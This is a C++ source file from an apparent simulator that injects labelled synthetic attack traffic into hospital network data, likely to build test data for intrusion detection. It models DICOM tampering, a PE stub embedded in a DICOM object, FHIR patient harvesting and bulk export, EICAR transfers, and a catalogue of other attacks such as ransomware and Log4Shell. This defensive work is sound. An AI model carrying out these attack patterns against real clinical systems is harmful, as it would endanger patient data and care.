  l.add_flow(dicom_dimse(sim, s, ws, pacs, "1.2.840.10008.5.1.4.1.2.2.1", 0x0020, 55, 0x0000));
  s.now += r.range(1 * kSec, 3 * kSec);
  l.add_flow(dicom_dimse(sim, s, ws, pacs, "1.2.840.10008.5.1.4.1.2.2.2", 0x0021, 25, 0x0000));
  finish(l, s.now);
}

// ---- DICOM from the internet to the PACS ----
void dicom_external(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& a = attacker(sim);
  Host& pacs = *sim.net.role("pacs");
  Session& s = sim.open(t);
  Label& l = sim.label("Exploit Public-Facing Application (DICOM from the internet)", "T1190", "initial-access",
                       "An internet address opens DICOM associations to the PACS (C-ECHO, C-FIND)", t);
  l.add_host(a);
  l.add_host(pacs);
  DicomStudy st = random_study(r, *sim.net.role("modality"), sim.bulk);
  l.add_flow(dicom_association(sim, s, a, pacs, DicomOp::kEcho, st));
  s.now += r.range(1 * kSec, 3 * kSec);
  l.add_flow(dicom_dimse(sim, s, a, pacs, "1.2.840.10008.5.1.4.1.2.2.1", 0x0020, 3, 0x0000));
  finish(l, s.now);
}

// ---- DICOM tampering: refused stores, storage commitment actions and deletions ----
void dicom_tamper(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Host& pacs = *sim.net.role("pacs");
  Session& s = sim.open(t);
  Label& l = sim.label("Data Destruction (DICOM N-DELETE / N-ACTION, refused C-STORE)", "T1485", "impact",
                       "A workstation pushes objects the PACS refuses (A700 out of resources), then sends N-ACTION and N-DELETE requests",
                       t);
  l.add_host(ws);
  l.add_host(pacs);
  l.add_flow(dicom_dimse(sim, s, ws, pacs, "1.2.840.10008.5.1.4.1.1.7", 0x0001, 2, 0xA700));
  s.now += r.range(1 * kSec, 3 * kSec);
  l.add_flow(dicom_dimse(sim, s, ws, pacs, "1.2.840.10008.1.20.1", 0x0130, 1, 0x0000));
  s.now += r.range(1 * kSec, 3 * kSec);
  l.add_flow(dicom_dimse(sim, s, ws, pacs, "1.2.840.10008.5.1.1.40", 0x0150, 1, 0x0000));
  finish(l, s.now);
}

// ---- DICOM object carrying an executable in its dataset ----
void dicom_exe(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Host& pacs = *sim.net.role("pacs");
  Session& s = sim.open(t);
  Label& l = sim.label("Embedded Payloads (executable inside a DICOM dataset)", "T1027.009", "defense-evasion",
                       "A workstation stores a DICOM object on the PACS whose dataset holds a Windows executable (MZ/PE) in a private OB element",
                       t);
  l.add_host(ws);
  l.add_host(pacs);
  // A minimal PE image: DOS header (e_lfanew at 0x3C = 0x80), the DOS stub message, PE header.
  std::string pe(0x200, '\0');
  pe[0] = 'M', pe[1] = 'Z';
  pe[0x3c] = char(0x80);
  const std::string stub = "This program cannot be run in DOS mode.\r\r\n$";
  pe.replace(0x4e, stub.size(), stub);
  pe.replace(0x80, 4, std::string("PE\0\0", 4));
  for (size_t i = 0x100; i < pe.size(); ++i) pe[i] = char(r.below(256));
  Bytes payload(pe.begin(), pe.end());
  // Encapsulated PDF Storage, answered with success.
  l.add_flow(dicom_dimse(sim, s, ws, pacs, "1.2.840.10008.5.1.4.1.1.104.1", 0x0001, 1, 0x0000, 104,
                         payload));
  finish(l, s.now);
}

// ---- FHIR bulk export and Patient harvesting from the internet ----
void fhir_bulk_export(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& a = attacker(sim);
  Host& ehr = *sim.net.role("ehr");
  Session& s = sim.open(t);
  Label& l = sim.label("Data from Information Repositories (FHIR bulk export)", "T1213", "collection",
                       "An internet address harvests Patient resources from the EHR's FHIR API (reads and searches) and starts a Bulk Data $export",
                       t);
  l.add_host(a);
  l.add_host(ehr);
  Tcp tcp(sim, s, a, ehr, 8080);
  tcp.connect();
  const std::string host = ehr.fqdn + ":8080";
  auto call = [&](const std::string& method, const std::string& uri, int status,
                  const std::string& body, std::vector<std::pair<std::string, std::string>> rh) {
    HttpReq q;
    q.method = method;
    q.host = host;
    q.uri = uri;
    q.user_agent = "python-requests/2.31.0";
    q.headers = {{"Accept", "application/fhir+json"}};
    HttpResp a2;
    a2.status = status;
    a2.content_type = "application/fhir+json";
    a2.body = body;
    a2.headers = std::move(rh);
    http_exchange(tcp, r, q, a2, r.range(20 * kMs, 200 * kMs));
  };
  for (int i = 0; i < 24; ++i) {
    Patient p = random_patient(r);
    if (i % 3 == 0)
      call("GET", "/fhir/Patient?family=" + p.family + "&_count=50", 200,
           "{\"resourceType\":\"Bundle\",\"type\":\"searchset\",\"total\":1,\"entry\":[{\"resource\":" +
               fhir_patient_json(r, p) + "}]}",
           {});
    else
      call("GET", "/fhir/Patient/" + p.mrn.substr(3), 200, fhir_patient_json(r, p), {});
  }
  std::string job = r.hex(16);
  call("GET", "/fhir/$export?_type=Patient,Observation,Condition", 202, "",
       {{"Content-Location", "http://" + host + "/fhir/$export-poll-status?_jobId=" + job}});
  call("GET", "/fhir/$export-poll-status?_jobId=" + job, 200,
       "{\"transactionTime\":\"2024-03-04T08:00:00Z\",\"request\":\"http://" + host +
           "/fhir/$export\",\"requiresAccessToken\":true,\"output\":[{\"type\":\"Patient\",\"url\":\"http://" +
           host + "/bulk/" + job + "/Patient.ndjson\"}],\"error\":[]}",
       {});
  tcp.close(Dir::kC2S);
  l.add_flow(tcp.tuple());
  finish(l, s.now);
}

// ---- EICAR download ----
void eicar(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Host& src = sim.net.internet("www.eicar-test.example");
  Session& s = sim.open(t);
  Label& l = sim.label("Ingress Tool Transfer (EICAR test file)", "T1105", "command-and-control",
                       "HTTP download of the 68-byte EICAR anti-virus test file", t);
  l.add_host(src);
  l.add_host(ws);
  resolve(sim, s, ws, src);
  Tcp tcp(sim, s, ws, src, 80);
  tcp.connect();
  HttpReq q;
  q.host = src.fqdn;
  q.uri = "/download/eicar.com";
  q.user_agent = user_agent_for(ws);
  HttpResp a;
  a.content_type = "application/octet-stream";
  a.body = kEicar;
  a.headers = {{"Content-Disposition", "attachment; filename=\"eicar.com\""}};
  http_exchange(tcp, r, q, a, r.range(20 * kMs, 100 * kMs));
  tcp.close(Dir::kC2S);
  l.add_flow(tcp.tuple());
  finish(l, s.now);
}

// ---- EICAR over every file-moving protocol (file extraction tests; not in `hospital`) ----
void eicar_all(Sim& sim, Ts t) {
  eicar(sim, t);  // HTTP download
  Rng& r = sim.rng;
  Session& s = sim.open(t + r.range(5 * kSec, 10 * kSec));
  Host& sender = sim.net.internet("mx.eicar-test.example");
  Host& mail = *sim.net.role("mail");
  Host& ws = compromised_ws(sim);
  Mail m;
  m.from = "test@eicar-test.example";
  m.to = ws.name + "@" + sim.net.domain;
  m.subject = "Anti-virus test file";
  m.body = "The EICAR anti-virus test file is attached.\r\n";
  m.attachment_name = "eicar.com";
  m.attachment_type = "application/octet-stream";
  m.attachment.assign(kEicar, kEicar + 68);
  Label& l = sim.label("Phishing: Spearphishing Attachment (EICAR test file)", "T1566.001",
                       "initial-access", "Inbound mail with the EICAR test file attached", s.now);
  l.add_host(sender);
  l.add_host(mail);
  l.add_flow(smtp_send(sim, s, sender, mail, m));
  finish(l, s.now);
  s.now += r.range(5 * kSec, 10 * kSec);
  Host& fs = *sim.net.role("fileserver");
  Label& l2 = sim.label("Lateral Tool Transfer (EICAR test file over SMB)", "T1570",
                        "lateral-movement", "The EICAR test file is copied to the file server", s.now);
  l2.add_host(ws);
  l2.add_host(fs);
  resolve(sim, s, ws, fs);
  Tcp t2(sim, s, ws, fs, 445);
  t2.connect();
  SmbClient smb(sim, t2, ws, fs);
  smb.negotiate();
  smb.session_setup("STMARYS", "jsmith");
  smb.tree_connect("Clinical");
  uint64_t fid = smb.create("Shared\\eicar.com", true, true);
  smb.write(fid, Bytes(kEicar, kEicar + 68));
  smb.close(fid);
  smb.logoff();
  t2.close(Dir::kC2S);
  l2.add_flow(t2.tuple());
  finish(l2, s.now);
  // Stored on the legacy FTP server (STOR over a passive data connection).
  if (Host* ftp = sim.net.role("ftp_legacy")) {
    s.now += r.range(5 * kSec, 10 * kSec);
    Label& l3 = sim.label("Ingress Tool Transfer (EICAR test file over FTP)", "T1105",
                          "command-and-control", "The EICAR test file is uploaded to the FTP server",
                          s.now);
    l3.add_host(ws);
    l3.add_host(*ftp);
    FtpParams p;
    p.upload = true;
    p.file = "eicar.com";
    p.content.assign(kEicar, kEicar + 68);
    l3.add_flow(ftp_session(sim, s, ws, *ftp, p));
    finish(l3, s.now);
  }
}

const std::vector<Attack> kAttacks = {
    {"ransomware", "SMB enumeration, mass read/encrypt/write/rename to .wwlock, ransom notes", ransomware},
    {"phishing", "inbound mail with a macro-enabled attachment, then a second-stage download", phishing},
    {"web_exploit", "Log4Shell JNDI, SQL injection and path traversal against the patient portal", web_exploit},
    {"c2_beacon", "HTTP/HTTPS callbacks every ~60 s with 20% jitter to one external host", c2_beacon},
    {"dga", "burst of random-domain lookups (NXDOMAIN), one resolves and is contacted", dga},
    {"dns_tunnel", "long high-entropy TXT queries to one domain", dns_tunnel},
    {"port_scan", "horizontal SYN scan of imaging/IoMT, vertical scan of the DMZ", port_scan},
    {"brute_force", "failed logins: SSH (internet), FTP, Telnet, SMB password spraying", brute_force},
    {"exfiltration", "HL7, FHIR and DICOM in cleartext to the internet; large TLS upload", exfiltration},
    {"rogue_hl7", "unknown Raspberry Pi joins and sends HL7 to the interface engine", rogue_hl7},
    {"dicom_pe", "DICOM file with a PE preamble over HTTP (WADO) and copied over SMB", dicom_pe},
    {"device_internet", "infusion pump talks to an internet host", device_internet},
    {"lateral_imaging", "workstation to imaging: SMB ADMIN$ write, DICOM C-ECHO/C-FIND", lateral_imaging},
    {"eicar", "HTTP download of the EICAR test file", eicar},
    {"hl7_nak_storm", "the interface engine refuses a burst of HL7 results (MSA|AE)", hl7_nak_storm},
    {"hl7_external", "an internet address sends HL7 patient merges to the interface engine", hl7_external},
    {"dicom_recon", "bulk DICOM C-FIND (patient/study root) and C-MOVE from a workstation", dicom_recon},
    {"dicom_external", "DICOM associations from an internet address to the PACS", dicom_external},
    {"dicom_tamper", "refused C-STOREs, N-ACTION and N-DELETE sent to the PACS", dicom_tamper},
    {"fhir_bulk_export", "FHIR Patient harvesting and Bulk Data $export from the internet", fhir_bulk_export},
    {"dicom_exe", "a DICOM object with a Windows executable in its dataset stored on the PACS", dicom_exe},
    {"eicar_all", "EICAR test file over HTTP, SMTP (attachment), SMB and FTP (not in hospital)",
     eicar_all},
};

}  // namespace

const std::vector<Attack>& attacks() { return kAttacks; }

std::vector<std::pair<std::string, std::string>> scenario_list() {
  std::vector<std::pair<std::string, std::string>> v = {
      {"benign", "background hospital traffic only"},
      {"hospital", "background with every attack below mixed in"}};
  for (const auto& a : kAttacks) v.emplace_back(a.name, a.description);
  return v;
}

bool schedule_scenario(Sim& sim, const std::string& name, Ts span, bool repeat) {
  std::vector<const Attack*> chosen;
  if (name == "benign") {
  } else if (name == "hospital") {
    for (const auto& a : kAttacks)
      if (a.inject != eicar_all) chosen.push_back(&a);  // EICAR already in via `eicar`
  } else {
    for (const auto& a : kAttacks)
      if (name == a.name) chosen.push_back(&a);
    if (chosen.empty()) return false;
  }
  // Spread the attacks over 15%..75% of the span, in a seed-dependent order.
  std::vector<const Attack*> order = chosen;
  for (size_t i = order.size(); i > 1; --i) std::swap(order[i - 1], order[sim.rng.below(i)]);
  for (size_t i = 0; i < order.size(); ++i) {
    double frac = order.size() == 1 ? 0.2 : 0.15 + 0.6 * static_cast<double>(i) / static_cast<double>(order.size() - 1);
    Ts at = sim.start + static_cast<Ts>(frac * static_cast<double>(span)) + sim.rng.range(0, 5 * kSec);
    const Attack* a = order[i];
    auto fire = std::make_shared<std::function<void(Sim&, Ts)>>();
    *fire = [a, span, repeat, fire](Sim& s, Ts t) {
      a->inject(s, t);
      if (repeat && !(a->inject == c2_beacon)) s.at(t + span, *fire);
    };
    sim.at(at, *fire);
  }
  return true;
}

}  // namespace ww::sim
